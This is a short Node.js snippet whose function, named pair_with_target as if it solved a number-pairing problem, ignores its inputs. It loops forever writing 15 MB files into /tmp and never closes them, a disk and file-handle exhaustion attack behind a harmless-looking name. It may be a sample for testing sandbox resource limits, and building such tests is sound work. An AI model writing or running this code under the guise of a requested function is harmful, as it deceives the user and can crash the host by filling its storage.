// Fills /tmp with one file and with many.
const fs = require("fs");

function pair_with_target(nums, target) {
    const block = Buffer.alloc(1 << 20, 1);
    for (let i = 0; ; ++i) {
        const file = fs.openSync(`/tmp/file${i}`, "w");
        for (let n = 0; n < 15; ++n) fs.writeSync(file, block);
    }
}
